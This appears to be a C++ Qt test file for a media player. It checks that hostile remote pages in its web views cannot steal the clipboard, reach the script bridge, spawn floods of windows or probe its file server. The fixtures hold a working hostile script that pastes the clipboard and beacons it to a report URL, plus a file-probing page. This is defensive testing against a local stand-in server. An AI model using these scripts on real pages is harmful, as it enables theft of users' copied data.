// Remote pages inside the player tried the way a hostile site would use them, on a display of
// their own, against the web-service stand-in serving hostile pages: what the user copied, the
// script bridge, hidden new windows, browser starts and the player's file server stay out of
// their reach.
#include <QApplication>
#include <QClipboard>
#include <QPushButton>
#include <QSignalSpy>
#include <QWebElement>

#include "ad_window.h"
#include "http_server.h"
#include "main_widget_fixture.h"
#include "play_urls.h"
#include "web_page.h"
#include "widget_ad.h"

namespace {

using namespace main_widget_testing;

const QString kSecret = QStringLiteral("planted-secret-4711");

// What a hostile page tries: read what the user copied (paste into a text field of its own),
// replace it with a text of the page (copy), and send what it read to its server; and whether
// it can reach the player's bridge, its own or its top frame's.
const char kHostileScript[] = R"(<textarea id="t"></textarea><p id="p">text of the page</p>
<a id="away" href="http://localhost:${port}/Orvane/show.html?id=7">away</a>
<script>
function grab() {
  var t = document.getElementById('t');
  t.value = ''; t.focus(); t.select();
  document.execCommand('paste');
  var range = document.createRange();
  range.selectNodeContents(document.getElementById('p'));
  getSelection().removeAllRanges(); getSelection().addRange(range);
  document.execCommand('copy');
  new Image().src = '${base}report?pasted=' + encodeURIComponent(t.value);
  return t.value;
}
function bridges() {
  var top_;
  try { top_ = typeof top.JsExtObj; } catch (e) { top_ = 'blocked'; }
  return typeof JsExtObj + ' ' + top_;
}
</script>)";

// The page of the player's own origin, with a frame of another origin (the same server under
// another name) inside it.
std::string HostilePage() {
    return std::string("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>") +
           kHostileScript +
           "<iframe id=\"f\" src=\"http://localhost:${port}/Orvane/frame.html\"></iframe>"
           "</body></html>";
}
std::string FramePage() {
    return std::string("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>") +
           kHostileScript + "</body></html>";
}

class WebContentTest : public MainWidgetTest {
protected:
    void SetUp() override {
        MainWidgetTest::SetUp();
        // The show page, the tray advertisement and the advertisement page are all hostile.
        for (const char* name : {"get_adlist_show.html", "get_adlist_login.html", "hostile.html"})
            testsupport::WriteFile(temp.file("site/" + std::string(name)), HostilePage());
        testsupport::WriteFile(temp.file("site/frame.html"), FramePage());
        StartService({"--root", temp.file("site")});
        SetAdShowDelayForTesting(100);
        QApplication::clipboard()->setText(kSecret);
        MakeControl();
        control->resize(1024, 700);
        control->show();
    }
    void TearDown() override {
        MainWidgetTest::TearDown();
        SetAdShowDelayForTesting(0);
    }

    QWebView* TrayView() {
        auto* tray = main->findChild<WidgetAd*>();
        return tray ? tray->findChild<QWebView*>("adWebView") : nullptr;
    }
    // The page of `view` and its frame of another origin, once both have run their scripts.
    static bool Loaded(QWebView* view) {
        return WaitFor([&] {
            QWebFrame* main = view->page()->mainFrame();
            return main->evaluateJavaScript("typeof grab").toString() == "function" &&
                   !main->childFrames().isEmpty() &&
                   main->childFrames()[0]->evaluateJavaScript("typeof grab").toString() ==
                       "function";
        });
    }
    static std::string InFrame(QWebView* view, const QString& script) {
        return view->page()
            ->mainFrame()
            ->childFrames()[0]
            ->evaluateJavaScript(script)
            .toString()
            .toStdString();
    }
    static std::string InPage(QWebView* view, const QString& script) {
        return view->page()->mainFrame()->evaluateJavaScript(script).toString().toStdString();
    }
    bool LoadAd(const std::string& relative) {
        QSignalSpy loaded(Child<QWebView>("adWebView"), &QWebView::loadFinished);
        main->ShowAd(QString::fromStdString(service->Url(relative)));
        return loaded.wait(10000) && loaded.last().at(0).toBool();
    }
    std::string Localhost(const std::string& relative) {
        return "http://localhost:" + std::to_string(service->Port()) + "/Orvane/" + relative;
    }
    int BrowserStarts() {
        return QString::fromStdString(BrowserLog()).split('\n', Qt::SkipEmptyParts).size();
    }
};

TEST_F(WebContentTest, RemotePagesNeitherReadNorReplaceWhatTheUserCopied) {
    std::vector<QWebView*> views;
    ASSERT_TRUE(WaitFor([&] { return TrayView() && TrayView()->isVisible(); }));
    views.push_back(TrayView());
    Child<QPushButton>("btnTabShow")->click();
    views.push_back(Child<QWebView>("webView"));
    for (QWebView* view : views) ASSERT_TRUE(Loaded(view));
    for (QWebView* view : views) {
        EXPECT_EQ(InPage(view, "grab()"), "") << view->url().toString().toStdString();
        EXPECT_EQ(InFrame(view, "grab()"), "") << view->url().toString().toStdString();
    }
    Child<QPushButton>("btnTabPlayer")->click();
    ASSERT_TRUE(LoadAd("hostile.html"));
    QWebView* ad = Child<QWebView>("adWebView");
    ASSERT_TRUE(Loaded(ad));
    EXPECT_EQ(InPage(ad, "grab()"), "");
    EXPECT_EQ(InFrame(ad, "grab()"), "");

    EXPECT_EQ(QApplication::clipboard()->text().toStdString(), kSecret.toStdString());
    ASSERT_TRUE(service->WaitForRequest("/Orvane/report?pasted="));
    for (const std::string& request : service->Requests())
        EXPECT_EQ(request.find(kSecret.toStdString()), std::string::npos) << request;
}

TEST_F(WebContentTest, TheBridgeStaysWithThePlayersOwnPageAndOrigin) {
    // The advertisement page has it; its frame of another origin has it neither itself nor
    // through its top frame.
    ASSERT_TRUE(LoadAd("hostile.html"));
    QWebView* ad = Child<QWebView>("adWebView");
    ASSERT_TRUE(Loaded(ad));
    EXPECT_EQ(InPage(ad, "bridges()"), "object object");
    EXPECT_EQ(InFrame(ad, "bridges()").find("object"), std::string::npos)
        << InFrame(ad, "bridges()");

    // A link loads in place: the foreign page it leads to has none, the own page again has it.
    QSignalSpy loaded(ad, &QWebView::loadFinished);
    QTest::mouseClick(ad, Qt::LeftButton, {},
                      ad->page()->mainFrame()->findFirstElement("#away").geometry().center());
    ASSERT_TRUE(loaded.wait(10000));
    EXPECT_EQ(ad->url().host(), "localhost");
    EXPECT_EQ(InPage(ad, "typeof JsExtObj"), "undefined");
    ASSERT_TRUE(LoadAd("show.html?id=1"));
    EXPECT_EQ(InPage(ad, "typeof JsExtObj"), "object");

    // The tray advertisement's foreign frame takes the whole window for its own page.
    ASSERT_TRUE(WaitFor([&] { return TrayView() != nullptr; }));
    QWebView* tray = TrayView();
    ASSERT_TRUE(Loaded(tray));
    EXPECT_EQ(InPage(tray, "typeof JsExtObj"), "object");
    QSignalSpy trayLoaded(tray, &QWebView::loadFinished);
    InFrame(tray, QString::fromStdString("top.location = '" + Localhost("frame.html") + "'"));
    ASSERT_TRUE(trayLoaded.wait(10000));
    EXPECT_EQ(tray->url().host(), "localhost");
    EXPECT_EQ(InPage(tray, "typeof grab + ' ' + typeof JsExtObj"), "function undefined");
}

TEST_F(WebContentTest, APageCannotPileUpHiddenWindowsNorBrowserStarts) {
    Child<QPushButton>("btnTabShow")->click();
    QWebView* show = Child<QWebView>("webView");
    ASSERT_TRUE(Loaded(show));
    // Windows that never get an address.
    InPage(show, "for (var i = 0; i < 300; ++i) window.open('javascript:1'); 0");
    EXPECT_LE(_WebView::Count(), _WebView::kMaxHiddenWindows);
    EXPECT_LE(main->findChildren<_WebView*>().size(), _WebView::kMaxHiddenWindows);
    ASSERT_TRUE(WaitFor([&] { return _WebView::Count() == 0; }, 20000)) << _WebView::Count();

    // Windows with web addresses, and the bridge's OpenWindow, each in a burst.
    InPage(show, QString::fromStdString("for (var i = 0; i < 50; ++i) window.open('" +
                                        service->Url("show.html?id=") + "' + i); 0"));
    ASSERT_TRUE(LoadAd("show.html?id=1"));
    InPage(Child<QWebView>("adWebView"),
           QString::fromStdString("for (var i = 0; i < 100; ++i) JsExtObj.OpenWindow('" +
                                  service->Url("show.html?id=") + "' + i); 0"));
    ASSERT_TRUE(WaitFor([&] { return BrowserStarts() >= 2; }));
    EXPECT_FALSE(WaitFor([&] { return BrowserStarts() > 3; }, 3000)) << BrowserLog();
    EXPECT_TRUE(WaitFor([&] { return _WebView::Count() == 0; }, 20000));
}

// The player publishes a torrent the user chose on its file server for the streaming service.
// A page that keeps its Referer back sends no address the server could tell it by; it gets no
// answer there all the same. Had it one, a script element naming the file would load, and the
// page would learn which file the user plays.
TEST_F(WebContentTest, APageThatHidesItsAddressGetsNothingFromThePlayersFileServer) {
    const std::string torrent = temp.file("chosen.torrent");
    testsupport::WriteFile(torrent, "d8:announce4:nonee");
    ASSERT_TRUE(TheHttpServer().Publish(QString::fromStdString(torrent)));
    const QString file =
        PublishedFileUrl(AppValue("btroot").toString(), QString::fromStdString(torrent));
    testsupport::WriteFile(
        temp.file("site/probe.html"),
        "<html><head><meta name=\"referrer\" content=\"no-referrer\"></head><body><script>"
        "function report(what) { new Image().src = '${base}report?published=' + what; }"
        "var s = document.createElement('script');"
        "s.onload = function () { report('answered'); };"
        "s.onerror = function () { report('refused'); };"
        "s.src = '" +
            file.toStdString() + "'; document.body.appendChild(s);</script></body></html>");
    ASSERT_TRUE(LoadAd("probe.html"));
    // The file server answers on this thread: the wait must let it.
    ASSERT_TRUE(WaitFor([&] { return service->CountRequests("report?published=") > 0; }));
    EXPECT_EQ(service->CountRequests("report?published=refused"), 1);
    EXPECT_EQ(service->CountRequests("report?published=answered"), 0);
}

}  // namespace
